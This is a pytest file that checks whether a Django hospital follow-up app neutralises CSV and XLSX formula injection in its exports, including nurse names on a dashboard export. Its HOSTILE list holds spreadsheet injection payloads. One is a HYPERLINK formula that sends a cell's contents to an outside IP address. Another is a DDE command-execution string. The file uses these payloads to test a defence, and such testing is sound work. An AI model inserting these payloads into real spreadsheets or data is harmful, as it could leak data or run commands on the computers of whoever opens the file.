"""Spreadsheet downloads carry no formula a user typed (CSV injection): every
export goes through followup.exports, which quotes text that a spreadsheet
would run and writes XLSX text cells as text."""

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
import time_machine
from django.urls import reverse
from django.utils.translation import gettext_lazy
from openpyxl import load_workbook

from calls.models import FollowUpCall
from complaints.models import Category
from followup.exports import Table, neutralise, spreadsheet_response
from tests.factories import DepartmentFactory, UserFactory, bulk_calls

HOSTILE = [
    '=HYPERLINK("http://203.0.113.5/?d="&A1,"x")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "\tx",
    "\rx",
]
QUOTED = ["'" + value for value in HOSTILE]
# An XML reader (openpyxl too) reads a carriage return in a text as a line feed.
QUOTED_IN_XLSX = [value.replace("\r", "\n") for value in QUOTED]


def read_csv(response) -> list[list[str]]:
    assert response.content.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


def read_xlsx(response):
    return load_workbook(io.BytesIO(response.content))


@pytest.mark.parametrize(("value", "expected"), list(zip(HOSTILE, QUOTED, strict=True)))
def test_text_a_spreadsheet_would_run_gets_a_leading_quote(value, expected):
    assert neutralise(value) == expected


@pytest.mark.parametrize(
    "value",
    [-3, -3.5, Decimal("-1.5"), 0, None, dt.date(2026, 1, 2), "-", "—", "-3", "+86", "12.5", "Zhou Min", "a=b", ""],
)
def test_numbers_and_harmless_text_are_left_as_they_are(value):
    assert neutralise(value) == value


def test_lazy_translations_become_text():
    assert neutralise(gettext_lazy("Summary")) == "Summary"


def test_one_table_exports_as_csv_with_bom_and_as_xlsx_text_cells():
    table = Table(title="Evil: [sheet]/1", headers=["Name", "Count"], rows=[[v, -3] for v in HOSTILE])

    csv_response = spreadsheet_response(tables=[table], fmt="csv", filename="evil.csv")
    xlsx_response = spreadsheet_response(tables=[table], fmt="xlsx", filename="evil.xlsx")

    assert csv_response["Content-Type"] == "text/csv; charset=utf-8"
    assert csv_response["Content-Disposition"] == 'attachment; filename="evil.csv"'
    assert read_csv(csv_response) == [["Name", "Count"], *[[q, "-3"] for q in QUOTED]]
    sheet = read_xlsx(xlsx_response).active
    assert xlsx_response["Content-Disposition"] == 'attachment; filename="evil.xlsx"'
    assert sheet.title == "Evil- -sheet--1"
    cells = [row for row in sheet.iter_rows(min_row=2)]
    assert [(c[0].value, c[0].data_type, c[1].value, c[1].data_type) for c in cells] == [
        (q, "s", -3, "n") for q in QUOTED_IN_XLSX
    ]


def test_a_chinese_file_name_is_sent_encoded():
    response = spreadsheet_response(tables=[Table("t", ["a"], [])], fmt="csv", filename="投诉-2026-Q3.csv")
    assert response["Content-Disposition"] == "attachment; filename*=utf-8''%E6%8A%95%E8%AF%89-2026-Q3.csv"


def test_control_characters_xlsx_cannot_hold_are_dropped_not_fatal():
    response = spreadsheet_response(tables=[Table("t", ["a"], [["bell\x07 ring"]])], fmt="xlsx", filename="t.xlsx")
    assert read_xlsx(response).active["A2"].value == "bell ring"


def test_an_unknown_format_is_a_programming_error():
    with pytest.raises(ValueError):
        spreadsheet_response(tables=[], fmt="ods", filename="t.ods")


# --- the dashboard export ----------------------------------------------------------

NOW = dt.datetime(2026, 11, 26, 10, 0, tzinfo=dt.timezone(dt.timedelta(hours=8)))


@pytest.fixture
def hostile_nurses(head_nurse, settings):
    """One completed call for each nurse; the nurses' names are hostile."""
    settings.DASHBOARD_MIN_N = 1
    ward = DepartmentFactory(code="CARD")
    ward.staff.add(head_nurse)
    for index, name in enumerate(HOSTILE):
        nurse = UserFactory(username=f"evil{index}", display_name=name)
        row = {"due_date": dt.date(2026, 11, 20), "status": FollowUpCall.Status.COMPLETED, "assigned_to": nurse}
        bulk_calls(department=ward, rows=[row], prefix=f"E{index}-")
    Category.objects.create(code="evil", name_en=HOSTILE[0], name_zh=HOSTILE[0])
    return ward


def section(rows: list[list[str]], title: str) -> list[list[str]]:
    """A CSV section's data rows: after its title and header, to the blank row."""
    start = rows.index([title]) + 2
    end = rows.index([], start)
    return rows[start:end]


@time_machine.travel(NOW, tick=False)
def test_dashboard_csv_quotes_hostile_nurse_names(client_for, head_nurse, hostile_nurses):
    response = client_for(head_nurse).get(reverse("calls:dashboard_export_csv"), {"start": "2026-11-01"})
    assert response.status_code == 200
    nurses = section(read_csv(response), "Nurses")
    assert sorted(row[0] for row in nurses) == sorted(QUOTED)
    assert {row[1] for row in nurses} == {"1"}


@time_machine.travel(NOW, tick=False)
def test_dashboard_xlsx_writes_hostile_nurse_names_as_text(client_for, head_nurse, hostile_nurses):
    response = client_for(head_nurse).get(reverse("calls:dashboard_export_xlsx"), {"start": "2026-11-01"})
    sheet = read_xlsx(response)["12 Nurses"]
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert sorted(c.value for c in cells) == sorted(QUOTED_IN_XLSX)
    assert {c.data_type for c in cells} == {"s"}
    assert {row[1].value for row in sheet.iter_rows(min_row=2)} == {1}
